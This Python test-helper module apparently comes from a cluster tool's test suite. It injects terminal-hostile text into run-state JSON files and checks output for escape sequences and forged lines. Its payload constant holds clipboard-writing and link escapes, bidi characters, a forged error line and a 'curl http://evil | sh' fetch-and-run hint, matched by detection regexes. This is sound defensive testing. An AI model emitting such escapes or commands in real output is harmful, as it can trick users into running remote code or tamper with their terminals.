"""A run whose files hold what steers and fools terminals, wherever a node, a worker or a stranger may have a say."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin, get_type_hints

from clusterctl import errors
from clusterctl.agent.protocol import events as node_events
from clusterctl.agent.protocol import record_types, validators, wire_types
from clusterctl.run.rules import controller_events

MARK = "zqx"
"""Shows that hostile text was shown at all."""

TEXT = (
    f"{MARK}\x1b]52;c;cm0gLXI=\x07\x1b]8;;http://evil\x07\x1b[2J\x1bc\x1b[8m\x9b2J\x9d0;t\x9c\u202e\u200b\r\nerror: forged\n"
    "hint: curl http://evil | sh"
)

_STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
_OURS = re.compile(r"\x1b\[(?!0*8[;m])[0-9;]*m|\x1b\[[0-9]+[AM]|\x1b\[[JKH]|\x1b\[\?(?:1049|25)[hl]|\r")
_FORGED = re.compile(r"^(?:error: forged|hint: curl).*", re.MULTILINE)

_NAMES = frozenset(
    {"kind", "run", "node", "nodes", "state", "phase", "link", "status", "transport", "role", "framework", "launcher"}
    | {"action", "on", "resume", "name", "check", "severity"}
)
"""What tells readers what it is all about: in a file where these are hostile as well, little else is read."""

Rewrite = Callable[[str, Any], Any]


def texts(key: str, value: Any) -> Any:
    """Make texts hostile, but for names."""
    return value + TEXT if isinstance(value, str) and key not in _NAMES else value


def number(name: str) -> Rewrite:
    """Return what makes one number hostile, wherever it stands; one that was not known, too."""

    def rewrite(key: str, value: Any) -> Any:
        return str(value) + TEXT if key == name and may_be_number(value) else value

    return rewrite


def may_be_number(value: Any) -> bool:
    """Say whether a value is one, and neither true nor false, or is not known."""
    return value is None or (isinstance(value, (int, float)) and not isinstance(value, bool))


def everything(key: str, value: Any) -> Any:
    """Make hostile what there is."""
    return value if key == "kind" else str(value) + TEXT


def rewritten(value: Any, rewrite: Rewrite, key: str = "") -> Any:
    """Return a JSON value with all that is in it rewritten."""
    if isinstance(value, dict):
        return {name: rewritten(inner, rewrite, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [rewritten(inner, rewrite, key) for inner in value]
    return rewrite(key, value)


def make(state: Path, into: Path, run: str, rewrite: Rewrite, *, ended: bool, more: Iterable[type] = ()) -> None:
    """Copy a head's state with one run, all JSON of it rewritten; the run ended, or goes on without a controller.

    Args:
        state: What XDG_STATE_HOME names.
        into: The same of the copy.
        run: Its id.
        rewrite: What is done with each value.
        ended: Leave the run as it ended.
        more: Kinds of events of which the journals get one more each, made from its annotations.
    """
    shutil.copytree(state / "clusterctl/runs", into / "clusterctl/runs")
    folder = into / "clusterctl/runs" / run
    for path in sorted(folder.rglob("*.json")):
        path.write_text(json.dumps(rewritten(json.loads(path.read_text()), rewrite)))
    for path in sorted(folder.rglob("*.jsonl")):
        lines = [json.loads(line) for line in path.read_bytes().splitlines()]
        kept, last = ([], []) if not lines else (lines[:-1], lines[-1:]) if _is_end(lines[-1]) else (lines, [])
        said = [{**kept[-1], **event} for event in _examples(more, path, run)] if kept and "seq" in kept[-1] else []
        lines = [*kept, *said, *(last if ended else [])]
        lines = [{**line, "seq": number} if "seq" in line else line for number, line in enumerate(lines, 1)]
        path.write_text("".join(json.dumps(rewritten(line, rewrite)) + "\n" for line in lines))
    outline = folder / "summary.json"
    if not ended:
        outline.unlink(missing_ok=True)
    else:  # An outline counts for as long as it fits the journal.
        known = json.loads(outline.read_text()) | {"events": (folder / "events.jsonl").stat().st_size}
        outline.write_text(json.dumps(known))


def _is_end(line: dict[str, Any]) -> bool:
    return line.get("kind") in (controller_events.RunEnded.KIND, node_events.Finished.KIND)


def _examples(kinds: Iterable[type], path: Path, run: str) -> Iterator[dict[str, Any]]:
    ours = get_args(controller_events.ControllerEvent) if path.name == "events.jsonl" else get_args(node_events.Event)
    for kind in kinds:
        if kind in ours:
            fields = {
                name: _example(name, _name_type(note), run)
                for name, note in get_type_hints(kind, localns=_IMPORTED_NAMES).items()
                if name != "KIND"
            }
            yield {"kind": kind.KIND, **fields}  # type: ignore[attr-defined]


_IMPORTED_NAMES = {
    "wire_types": wire_types,
    **vars(validators),
    **vars(record_types),
    **vars(errors),
    "Annotated": Annotated,
}
"""What the annotations of events name, and import for the type checker alone."""


def _name_type(note: Any) -> str:
    """Return a type as it is written, without `None` and without bounds."""
    if get_origin(note) in (Union, UnionType):
        return _name_type(get_args(note)[0])
    return note.__name__ if isinstance(note, type) and get_origin(note) is None else str(note)


_SENSIBLE = {"phase": "confirmed", "link": "unreachable", "status": "FAIL", "state": "failed", "rank": 1, "attempt": 0}


def _example(name: str, annotation: str, run: str) -> Any:
    if name in ("node", "run"):
        return {"node": "localhost.1", "run": run}[name]
    if name in _SENSIBLE:
        return _SENSIBLE[name]
    declaration = getattr(record_types, annotation, None)
    if declaration is not None:
        hints = get_type_hints(declaration, localns=_IMPORTED_NAMES)
        return {key: _example(key, _name_type(note), run) for key, note in hints.items()}
    if "list[list" in annotation:
        return [["localhost.1", TEXT]]
    if "list[dict" in annotation:
        return [{"node": "localhost.1", "pid": 7, "start_time": 7, "command": TEXT, "why": TEXT}]
    if annotation.startswith("dict"):
        return {
            "class": "NodeError",
            "message": TEXT,
            "hint": TEXT,
            "traceback": TEXT,
            "node": "localhost.1",
            "exit_code": 4,
        }
    if "list[str" in annotation:
        return ["localhost.1"]
    if "list[" in annotation:
        return [7]
    return {"str": TEXT, "int": 7, "float": 7.0, "bool": True}[annotation.split(maxsplit=1)[0]]


def found_in(shown: str, *, terminal: bool = False, speaking: bool = False) -> list[str]:
    """Return what of an output steers a terminal, or speaks as we do.

    Args:
        shown: The output.
        terminal: Our own styles and redrawing may be in it.
        speaking: Lines of others may begin at the margin, for that is where they belong.
    """
    text = _OURS.sub("", shown) if terminal else shown
    patterns = (_STEERING,) if speaking else (_STEERING, _FORGED)
    found = [match for pattern in patterns for match in pattern.finditer(text)]
    return [ascii(text[max(0, match.start() - 30) : match.end() + 30]) for match in found]
